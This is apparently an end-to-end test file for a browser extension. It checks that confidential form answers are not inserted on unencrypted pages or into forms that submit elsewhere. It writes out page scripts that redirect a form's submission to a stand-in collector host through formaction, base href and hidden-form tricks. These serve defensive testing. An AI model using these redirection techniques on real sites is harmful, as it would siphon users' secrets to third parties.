import { question, tickAndInsert, writeSecret } from '../../e2e/review/agreement.ts';
import { expect, test, type Case } from '../case/case.ts';
import { askToInsert, approveSecret, backups, content, openCard } from '../case/desk.ts';
import { box, formPage } from '../case/site.ts';
import messages from '../../../locales/en.json' with { type: 'json' };

/** A name of a host that is not this machine, answered by this machine all the same. */
const portal = 'portal.example';
const elsewhere = 'https://collector.example/take';

test.use({ launch: { flags: [`--host-resolver-rules=MAP ${portal} 127.0.0.1`] } });

const plainForm = formPage(box('vault', question) + box('first', backups) + box('second', content));
const sendingTo = (address: string) =>
  plainForm.replace('onsubmit', `action="${address}" method="post" onsubmit`);

/** The form at that address, with an answer for customers under an agreement approved for its first field. */
async function approvedAt(at: Case, address: string) {
  await writeSecret(at.extension, at.secret('nowhere'));
  const page = await at.go(address);
  at.bait(1);
  const panel = await at.openPanel(page);
  await panel.getByRole('button', { name: 'Answer as Acme' }).click();
  const card = await openCard(panel, question);
  await card.getByRole('button', { name: 'Approve', exact: true }).click();
  return { page, panel, card, insert: card.getByRole('button', { name: 'Insert', exact: true }) };
}

const onHttp = (at: Case) => at.site.serve('/form', plainForm).replace('localhost', portal);

test('H11 an answer under an agreement is refused to a site without encryption, whatever a person grants', async ({
  at,
}) => {
  const { page, panel, card, insert } = await approvedAt(at, onHttp(at));
  await insert.click();
  await expect(panel.getByRole('dialog')).toContainText(messages.confirm.siteInTheClear);
  await tickAndInsert(panel);
  await expect(card).toContainText(messages.problems.not_encrypted.cause);
  await expect(page.locator('#vault')).toHaveValue('');
});

test('H11 a public answer goes to a site without encryption after a warning', async ({ at }) => {
  const page = await at.go(onHttp(at));
  const panel = await at.openDesk(page);
  const text = await approveSecret(at, panel, backups, 'first');
  const go = await askToInsert(panel);
  await expect(panel.getByRole('dialog')).toContainText(messages.confirm.siteInTheClear);
  await go.click();
  await expect(page.locator('#first')).toHaveValue(text);
});

test('H11 an answer under an agreement is refused where the form sends to another site', async ({ at }) => {
  const { page, panel, card, insert } = await approvedAt(at, at.site.serve('/form', sendingTo(elsewhere)));
  await insert.click();
  await tickAndInsert(panel);
  await expect(card).toContainText(messages.problems.foreign_form.cause);
  await expect(page.locator('#vault')).toHaveValue('');
});

test('H11 H13 the form sends to another site only once a person has agreed, and hides it behind a named input', async ({
  at,
}) => {
  const { page, panel, card, insert } = await approvedAt(at, at.site.serve('/form', sendingTo('/send')));
  at.movesItself = true;
  await insert.click();
  await page.evaluate((address) => {
    const form = document.querySelector('#form')!;
    form.setAttribute('action', address);
    form.insertAdjacentHTML('beforeend', '<input type="hidden" name="action" value="/send">');
  }, elsewhere);
  await tickAndInsert(panel);
  await expect(card).toContainText(messages.problems.foreign_form.cause);
  await expect(page.locator('#vault')).toHaveValue('');
});

/** What a page does, once it was asked, to have the answer sent elsewhere. Each runs in the page. */
const detours: Record<string, (address: string) => void> = {
  'the button that sends the form has an address of its own': (address) =>
    document
      .querySelector('#form')!
      .insertAdjacentHTML('beforeend', `<button type="submit" formaction="${address}">Send</button>`),
  'the address that all others start from is another one': (address) => {
    document.querySelector('#form')!.setAttribute('action', 'take');
    document.head.insertAdjacentHTML('beforeend', `<base href="${address}">`);
  },
  'the field belongs to a form elsewhere in the page': (address) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<form id="other" action="${address}" method="post"></form>`,
    );
    document.querySelector('#vault')!.setAttribute('form', 'other');
  },
  'a button outside of the form sends it': (address) =>
    document.body.insertAdjacentHTML(
      'beforeend',
      `<input type="submit" form="form" formaction="${address}">`,
    ),
};
for (const [name, detour] of Object.entries(detours))
  test(`H11 the form sends to another site once a person has agreed: ${name}`, async ({ at }) => {
    const { page, panel, card, insert } = await approvedAt(at, at.site.serve('/form', sendingTo('/send')));
    at.movesItself = true;
    await insert.click();
    await expect(panel.getByRole('dialog').getByRole('checkbox')).toBeVisible();
    await page.evaluate(detour, elsewhere);
    await tickAndInsert(panel);
    await expect(card).toContainText(messages.problems.foreign_form.cause);
    await expect(page.locator('#vault')).toHaveValue('');
  });
